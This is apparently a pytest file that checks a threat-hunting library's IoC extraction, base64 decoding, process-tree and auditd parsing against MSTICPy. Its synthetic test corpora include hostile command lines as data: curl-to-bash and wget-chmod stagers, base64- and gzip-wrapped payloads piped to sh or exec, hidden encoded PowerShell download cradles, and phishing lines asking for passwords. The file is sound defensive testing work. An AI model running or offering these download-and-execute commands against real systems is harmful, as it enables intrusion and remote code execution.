"""huntbook's transforms against MSTICPy 3.0.2 on the same DataFrames.

msticpy is pinned in the test venv and imported unconditionally: a comparison that
cannot run fails the suite rather than skipping. Each test runs the same input
through both and compares the results; where huntbook differs on purpose (listed in
docs/compatibility.md), the test checks that the difference is exactly the documented
one and nothing else.
"""

import base64
import gzip
import io
import logging
import random
import warnings
import zipfile

import pandas as pd
import pytest

import huntbook
from huntbook import _huntbook
from huntbook._tables import to_frame

with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    from msticpy.transform import auditdextract as m_auditd
    from msticpy.transform import base64unpack as m_b64
    from msticpy.transform import proc_tree_builder as m_tree
    from msticpy.transform import process_tree_utils as m_tree_utils
    from msticpy.transform.iocextract import IoCExtract

from test_transforms import AUDIT_LOG, ps_encoded


@pytest.fixture(autouse=True)
def quiet_msticpy():
    # tldextract (inside msticpy) logs a failed download of the suffix list on every
    # first use offline, then falls back to its bundled copy.
    logging.disable(logging.WARNING)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        yield
    logging.disable(logging.NOTSET)


# --- IoC extraction ---------------------------------------------------------------------


def ioc_corpus(rows: int, seed: int) -> pd.DataFrame:
    """Log, command-line and phishing lines with indicators in the forms both tools
    read alike (the forms where they differ are tested separately below)."""
    rng = random.Random(seed)
    tlds = ["com", "net", "org", "io", "co.uk", "ru", "info", "xyz"]
    words = ["update", "login", "cdn", "files", "mail", "secure", "portal", "static"]

    def domain():
        return f"{rng.choice(words)}{rng.randint(1, 999)}.{rng.choice(words)}.{rng.choice(tlds)}"

    def ip():
        return ".".join(str(rng.randint(1, 254)) for _ in range(4))

    def hexstr(n):
        return "".join(rng.choice("0123456789abcdef") for _ in range(n))

    templates = [
        lambda: f"curl -s http://{domain()}/{rng.choice(words)}.sh | bash",
        lambda: f"Accepted password for root from {ip()} port {rng.randint(1024, 65535)} ssh2",
        lambda: f"Invoke-WebRequest -Uri https://{domain()}/a/{hexstr(8)} -OutFile payload",
        lambda: f"Your mailbox is full, log in at hxxps://{domain().replace('.', '[.]', 1)}/owa to keep it",
        lambda: f"Reply to {rng.choice(words)}{rng.randint(1, 99)}@{domain()} with your password",
        lambda: f"certutil -hashfile x.exe SHA256 => {hexstr(64)}",
        lambda: f"md5 {hexstr(32)} sha1 {hexstr(40)}",
        lambda: f"DNS query for {domain()} returned {ip()}",
        lambda: f"ipconfig /all && net view \\\\{rng.choice(words)}{rng.randint(1, 99)}",
        lambda: "Get-ChildItem C:\\Users -Recurse | Measure-Object",
        lambda: f"connection to {ip()}:{rng.randint(1, 65535)} refused",
        lambda: f"GET /index.php?id={rng.randint(1, 9999)} HTTP/1.1 Host: {domain()}",
    ]
    return pd.DataFrame({"CommandLine": [rng.choice(templates)() for _ in range(rows)]})


def ioc_rows(frame: pd.DataFrame) -> set:
    return set(zip(frame["IoCType"], frame["Observable"], frame["SourceIndex"]))


def test_ioc_extraction_matches_msticpy():
    data = ioc_corpus(3000, seed=11)
    theirs = IoCExtract().extract_df(data, columns=["CommandLine"])
    ours = huntbook.extract_iocs(data, "CommandLine")
    assert ours.groupby("IoCType").size().to_dict() == theirs.groupby("IoCType").size().to_dict()
    assert ioc_rows(ours) == ioc_rows(theirs)
    assert set(ours["IoCType"]) >= {"ipv4", "dns", "url", "email", "md5_hash", "sha1_hash", "sha256_hash"}


def test_ioc_single_observables_match_msticpy():
    extractor = IoCExtract()
    for value in ["10.2.3.4", "2001:db8::7", "evil.example.com", "http://x.example.org/a",
                  "a@b.example.net", "d41d8cd98f00b204e9800998ecf8427e",
                  "da39a3ee5e6b4b0d3255bfef95601890afd80709", "e" * 64]:  # fmt: skip
        assert huntbook.ioc_type(value) == extractor.get_ioc_type(value), value
        theirs = extractor.file_hash_type(value)
        assert huntbook.file_hash_type(value) == (None if theirs.name == "unknown" else theirs.name), value


def test_ioc_documented_differences_and_nothing_else():
    data = pd.DataFrame(
        {
            "t": [
                "postfix/smtpd: from=alice@example.com relay=mx1.example.net",
                "see evil(.)org now",
                "peer ::ffff:10.1.2.3 connected",
                "powershell -File a.ps1",
                "mail first.name@example.org",
            ]
        }
    )
    theirs = ioc_rows(IoCExtract().extract_df(data, columns=["t"]))
    ours = ioc_rows(huntbook.extract_iocs(data, "t"))
    # key=value: the key is not part of the email; the domain is dns in both.
    assert ("email", "from=alice@example.com", 0) in theirs
    assert ("email", "alice@example.com", 0) in ours
    assert ("dns", "example.com", 0) in ours & theirs
    # (.) is a defanged dot for huntbook only; IPv4-mapped IPv6 parses as an address.
    assert ours - theirs == {
        ("email", "alice@example.com", 0),
        ("dns", "evil(.)org", 1),
        ("ipv6", "::ffff:10.1.2.3", 2),
    }
    # A dns name does not run on into a word (a.ps1 is not a.ps); an email's local
    # part is not a dns name.
    assert theirs - ours == {
        ("email", "from=alice@example.com", 0),
        ("dns", "a.ps", 3),
        ("dns", "first.name", 4),
    }


# --- base64 -----------------------------------------------------------------------------


def zip_bytes(members):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, text in members:
            archive.writestr(name, text)
    return buffer.getvalue()


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def b64_corpus(seed: int) -> pd.DataFrame:
    rng = random.Random(seed)
    rows = []
    for i in range(200):
        host = f"{rng.randint(1, 223)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
        text = f"wget http://{host}/stage{i}.sh -O /tmp/s{i}; chmod +x /tmp/s{i}".encode()
        kind = i % 6
        if kind == 0:
            rows.append(f"bash -c 'echo {b64(text)} | base64 -d | sh'")
        elif kind == 1:
            rows.append(f"python3 -c \"exec(b64decode('{b64(b64(text).encode())}'))\"")
        elif kind == 2:
            rows.append(f"payload={b64(gzip.compress(text))}")
        elif kind == 3:
            rows.append(f"blob {b64(b'MZ' + bytes(rng.randrange(256) for _ in range(300)))}")
        elif kind == 4:
            rows.append(f"ls -la /var/www/html/uploads/{i}")
        else:
            rows.append(f"echo {b64(zip_bytes([(f'm{i}.txt', text.decode())]))} > z.b64")
    return pd.DataFrame({"CommandLine": rows})


B64_COLUMNS = ["src_index", "file_type", "encoding_type", "md5", "sha1", "sha256", "decoded_string"]


def b64_rows(frame: pd.DataFrame) -> set:
    # Our text columns are pandas' str dtype, where a missing value is NaN; MSTICPy's
    # object columns hold None there.
    cells = frame[B64_COLUMNS].astype(object)
    return set(cells.where(cells.notna(), None).astype(str).itertuples(index=False, name=None))


def test_base64_decoding_matches_msticpy():
    data = b64_corpus(seed=5)
    theirs = m_b64.unpack_df(data, column="CommandLine")
    ours = huntbook.unpack_base64(data, "CommandLine", msticpy_compatible=True)
    assert len(ours) == len(theirs)
    assert b64_rows(ours) == b64_rows(theirs)
    assert set(ours["full_decoded_string"]) == set(theirs["full_decoded_string"])
    # Our default mode decodes the same payloads (they are all UTF-8 or binary).
    assert b64_rows(huntbook.unpack_base64(data, "CommandLine")) >= {
        r for r in b64_rows(theirs) if r[2] != "binary"
    }


def test_encoded_powershell_is_decoded_without_a_flag():
    scripts = [f"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.{i}/p.ps1')" for i in range(1, 30)]
    data = pd.DataFrame({"CommandLine": [f"powershell -nop -w hidden -enc {ps_encoded(s)}" for s in scripts]})
    # MSTICPy decodes these only with utf16=True ...
    with_flag = m_b64.unpack_df(data, column="CommandLine", utf16=True)
    assert sorted(with_flag["decoded_string"]) == sorted(scripts)
    without = m_b64.unpack_df(data, column="CommandLine")
    assert not set(without["decoded_string"]) & set(scripts)
    # ... huntbook tells UTF-16LE from UTF-8 by itself (the documented difference).
    ours = huntbook.unpack_base64(data, "CommandLine")
    assert sorted(ours["decoded_string"]) == sorted(scripts)
    assert ours[["md5", "sha256"]].values.tolist() == with_flag[["md5", "sha256"]].values.tolist()


# --- process trees ----------------------------------------------------------------------


@pytest.mark.parametrize("seed", [1, 2])
def test_process_tree_on_one_host_matches_msticpy(seed):
    events = to_frame(_huntbook.generate_process_events(3000, hosts=1, seed=seed))
    theirs = m_tree.build_process_tree(events)
    ours = huntbook.build_process_tree(events)
    assert ours.hb_tree.summary() == m_tree_utils.get_summary_info(theirs)
    assert sorted(ours.index) == sorted(theirs.index)
    for column in ["parent_key", "path", "IsRoot", "IsLeaf", "IsBranch"]:
        assert ours[column].sort_index().fillna("").tolist() == theirs[column].sort_index().fillna("").tolist(), column


def test_process_tree_across_hosts_differs_only_by_cross_host_parents():
    events = to_frame(_huntbook.generate_process_events(3000, hosts=4, seed=9))
    theirs = m_tree.build_process_tree(events)
    ours = huntbook.build_process_tree(events)
    host_of = theirs["Computer"].groupby(level=0).first()
    differing = 0
    for key, parent in theirs["parent_key"].items():
        if key not in ours.index:
            continue
        mine = ours.loc[[key], "parent_key"]
        if pd.isna(parent) or (mine == parent).any():
            continue
        differing += 1
        # MSTICPy linked this process to a parent on another host.
        assert host_of.get(parent) != theirs.loc[[key], "Computer"].iloc[0], key
    assert differing > 0, "the generator should produce pids shared between hosts"


def test_msticpys_own_navigation_works_on_our_tree():
    events = to_frame(_huntbook.generate_process_events(1500, hosts=1, seed=4))
    ours = huntbook.build_process_tree(events)
    branch = ours[ours["IsBranch"]].index[0]
    theirs_children = m_tree_utils.get_children(ours, branch, include_source=False)
    assert list(theirs_children.index) == list(ours.hb_tree.children(branch, include_source=False).index)
    theirs_desc = m_tree_utils.get_descendents(ours, branch, include_source=False)
    assert sorted(theirs_desc.index) == sorted(ours.hb_tree.descendants(branch, include_source=False).index)
    assert m_tree_utils.get_root(ours, branch).name == ours.hb_tree.root_of(branch).name


# --- auditd -----------------------------------------------------------------------------


def test_auditd_matches_msticpy(tmp_path):
    # MSTICPy stops at a malformed line, so the comparison uses a clean log.
    path = tmp_path / "audit.log"
    path.write_text(AUDIT_LOG.replace("this line is garbage\n", ""))
    theirs = m_auditd.read_from_file(str(path))
    ours = huntbook.parse_auditd(path)
    assert list(ours["EventType"]) == list(theirs["EventType"])
    assert ours["cmdline"].fillna("").tolist() == theirs["cmdline"].fillna("").tolist()
    # mssg_id is epoch:serial here, the epoch alone in MSTICPy's raw-file reader.
    assert (ours["mssg_id"].str.split(":").str[0] == theirs["mssg_id"]).all()
    # proctitle's NUL separators become spaces here (documented).
    assert ours["proctitle"][0] == theirs["proctitle"][0].replace("\0", " ")
    skip = ("TimeGenerated", "mssg_id", "proctitle")
    shared = [c for c in theirs.columns if c in ours.columns and c not in skip]
    assert len(shared) > 15
    def cells(frame):
        # MSTICPy keeps integer fields as floats (NaN for missing); compare the text.
        return [
            ["" if pd.isna(v) else str(v).removesuffix(".0") for v in row]
            for row in frame[shared].itertuples(index=False)
        ]

    assert cells(ours) == cells(theirs)
